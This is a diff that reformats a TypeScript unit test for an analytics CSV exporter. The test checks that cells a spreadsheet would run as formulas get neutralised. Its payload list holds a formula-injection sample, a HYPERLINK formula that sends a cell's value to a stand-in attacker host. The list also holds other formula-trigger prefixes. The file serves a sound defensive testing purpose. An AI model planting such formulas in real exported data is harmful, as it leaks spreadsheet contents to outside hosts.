@@ -1,14 +1,35 @@
 import { describe, expect, it } from "@atrium/test-kit";
+
 import { lastDays, toCsv, totals } from "./csv.ts";
 
-const row = (day: string, leads: number, bookedLeads: number) => ({ day, leads, messagesIn: 1, messagesOut: 2, calls: 0, bookings: 1, bookedLeads, conversion: leads === 0 ? 0 : bookedLeads / leads });
+const row = (day: string, leads: number, bookedLeads: number) => ({
+  day,
+  leads,
+  messagesIn: 1,
+  messagesOut: 2,
+  calls: 0,
+  bookings: 1,
+  bookedLeads,
+  conversion: leads === 0 ? 0 : bookedLeads / leads,
+});
 
 describe("analytics CSV", () => {
   it("writes a header and one CRLF line per day, rounding the conversion", () => {
-    expect(toCsv([row("2026-03-01", 3, 2)])).toBe("day,leads,messagesIn,messagesOut,calls,bookings,bookedLeads,conversion\r\n2026-03-01,3,1,2,0,1,2,0.6667\r\n");
+    expect(toCsv([row("2026-03-01", 3, 2)])).toBe(
+      "day,leads,messagesIn,messagesOut,calls,bookings,bookedLeads,conversion\r\n2026-03-01,3,1,2,0,1,2,0.6667\r\n",
+    );
   });
   it("neutralises a text cell a spreadsheet would run (decision 0026); computed numbers stay numbers", () => {
-    for (const payload of ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "-5", "+15550102030"]) {
+    for (const payload of [
+      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+      "+1+1",
+      "-1+1",
+      "@SUM(1,1)",
+      "\t=1+1",
+      "\r=1+1",
+      "-5",
+      "+15550102030",
+    ]) {
       const [, line] = toCsv([row(payload, 1, 0)]).split("\r\n");
       expect(line).toBe(`"'${payload.replace(/"/g, '""')}",1,1,2,0,1,0,0`);
     }
